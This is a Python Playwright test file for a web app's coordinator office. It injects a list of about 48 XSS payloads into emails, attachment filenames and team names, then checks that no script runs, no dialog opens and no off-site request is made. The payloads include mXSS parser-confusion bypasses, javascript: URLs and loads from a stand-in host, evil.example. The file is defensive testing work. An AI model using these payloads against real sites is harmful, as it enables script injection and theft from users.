"""Letters and names that want to run, load or lead elsewhere, opened in a real browser as the coordinator does: nothing
runs, nothing is asked of anybody else, and the page stays where it is."""

from collections.abc import Callable
from urllib.parse import urlsplit

from playwright.sync_api import Page, Request

from tests.browser.conftest import Site, sign_in
from tests.web.office_season import COORDINATOR
from workflow.database.models import Team

Browse = Callable[..., Page]
EVIL = "http://evil.example"
RUN = "document.title='run';console.log('run');alert(1)"
VECTORS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt >{RUN}</sCrIpT >",
    f"<script src={EVIL}/x.js></script>",
    f'<img src=x onerror="{RUN}">',
    f"<img src=`x`onerror={RUN}>",
    f'<svg onload="{RUN}">',
    f"<svg><script>{RUN}</script></svg>",
    f'<svg><animate onbegin="{RUN}" attributeName=x dur=1s>',
    f'<svg><a xlink:href="javascript:{RUN}"><rect width=100 height=100 /></a>',
    f'<body onload="{RUN}">',
    f'<input autofocus onfocus="{RUN}">',
    f'<details open ontoggle="{RUN}">',
    f'<video src=x onerror="{RUN}"></video>',
    f'<marquee onstart="{RUN}">',
    f'<iframe src="javascript:{RUN}"></iframe>',
    f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
    f'<object data="javascript:{RUN}"></object>',
    f'<embed src="javascript:{RUN}">',
    f'<a href="javascript:{RUN}">x</a>',
    f'<a href="java&#9;script:{RUN}">x</a>',
    f"<form action={EVIL}/form><button>JAH</button></form>",
    f'<button formaction="javascript:{RUN}">x</button>',
    f"<base href={EVIL}/>",
    f'<meta http-equiv=refresh content="0;url={EVIL}/refresh">',
    '<meta http-equiv=set-cookie content="session=x">',
    f"<link rel=stylesheet href={EVIL}/x.css>",
    f"<style>@import '{EVIL}/import.css';</style>",
    f"<style>body{{background:url({EVIL}/bg.png)}}</style>",
    f'<div style="background:url({EVIL}/inline.png)">x</div>',
    f"<img src={EVIL}/pixel.png width=1 height=1>",
    f"<picture><source srcset={EVIL}/s.png><img src=x></picture>",
    f"<table background={EVIL}/table.png><tr><td>x</table>",
    f'<math><mtext></p><style><img src=x onerror="{RUN}">',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
    f"<svg></p><style><a id=\"</style><img src=1 onerror='{RUN}'>\">",
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<template><script>{RUN}</script></template>",
    f'<textarea></textarea><img src=x onerror="{RUN}"></textarea>',
    f"<title></title><script>{RUN}</script></title>",
    f'<xmp></xmp><img src=x onerror="{RUN}"></xmp>',
    f"]]><script>{RUN}</script>",
    f"--><script>{RUN}</script>",
    f'"><script>{RUN}</script>',
    f"'-{RUN}-'",
    f"**[x](javascript:{RUN})** ![x]({EVIL}/markdown.png) <{EVIL}/auto>",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"\u2028<script>{RUN}</script>\u202e",
)


class Watch:
    """What a page does that it should not."""

    def __init__(self, page: Page, site: Site) -> None:
        self.page, self.own, self.asked = page, urlsplit(site.url).netloc, 0
        self.found: list[str] = []
        page.on("dialog", lambda dialog: (self.found.append(f"dialog {dialog.message}"), dialog.dismiss()))
        page.on("console", lambda said: self.found.append(f"ran: {said.text}") if said.text == "run" else None)
        page.on("request", self._asks)
        page.on("popup", lambda other: self.found.append(f"popup {other.url}"))

    def _asks(self, request: Request) -> None:
        self.asked += 1
        where = urlsplit(request.url)
        if where.scheme not in ("data", "about") and where.netloc != self.own:
            self.found.append(f"asked {request.url}")

    def opens(self, path: str) -> None:
        self.page.goto(path, wait_until="load")
        assert urlsplit(self.page.url).path == path, f"{path} led to {self.page.url}"
        assert self.page.title() != "run"
        assert self.page.locator("main, body").first.is_visible()


def raw(number: int, sender: str, to: str, vector: str) -> bytes:
    """The vector wherever a letter has room for words."""
    line = " ".join(vector.split()).replace('"', "'")
    return (
        f'From: "{line[:100]}" <{sender}>\r\nTo: {to}\r\nSubject: {line[:200]}\r\n'
        f"Message-ID: <v{number}@example.org>\r\n"
        "MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n"
        f"--b\r\nContent-Type: text/html; charset=utf-8\r\n\r\n<p>Kas nii?</p>{vector}\r\n"
        '--b\r\nContent-Type: text/html; name="x.html"\r\n'
        f'Content-Disposition: attachment; filename="{line[:60]}.html"'
        f"\r\n\r\n{vector}\r\n--b--\r\n"
    ).encode()


def test_letters_run_nothing_load_nothing_and_lead_nowhere(site: Site, browse: Browse) -> None:
    crew = site.world.apply("Võru").selected("I")
    _, asked, address = site.world.asked("confirm_place", team=crew.id)
    letters = [
        site.world.deliver(raw(n, asked.address, address, one), address, sender=asked.address).id
        for n, one in enumerate(VECTORS)
    ]
    page = browse(site)
    sign_in(page, site, COORDINATOR)
    watch = Watch(page, site)
    for letter in letters:
        watch.opens(f"/office/letter/{letter}")
    watch.opens("/office/inbox")
    watch.opens(f"/office/team/{crew.id}")
    assert watch.found == []
    assert len(VECTORS) > 45 and watch.asked > len(VECTORS)


def test_names_in_mails_and_on_pages_run_nothing(site: Site, browse: Browse) -> None:
    """The mails themselves too, as the coordinator sees them in their frame."""
    crew = site.world.apply("Võru")
    page = browse(site)
    sign_in(page, site, COORDINATOR)
    watch = Watch(page, site)
    for at in range(0, len(VECTORS), 6):  # as many as a name has room for
        with site.world.db.writing() as session:
            session.get_one(Team, crew.id).name = " ".join(VECTORS[at : at + 6])[:195]
        watch.opens(f"/office/team/{crew.id}")
        watch.opens("/office/board")
    crew.selected("I")
    seen = [one.id for one in site.world.messages() if one.team_id == crew.id][-4:]
    for number in seen:
        watch.opens(f"/office/outbox/{number}")
        watch.opens(f"/office/outbox/{number}/html")
    assert seen and watch.found == []


def test_what_runs_would_be_seen(site: Site, browse: Browse) -> None:
    """A page without our policy and our escaping does all of it."""
    page = browse(site)
    watch = Watch(page, site)
    page.goto("about:blank")
    page.set_content("".join((VECTORS[0], VECTORS[3], VECTORS[29])), wait_until="domcontentloaded")
    page.wait_for_timeout(300)
    assert {one.split()[0] for one in watch.found} == {"dialog", "ran:", "asked"}
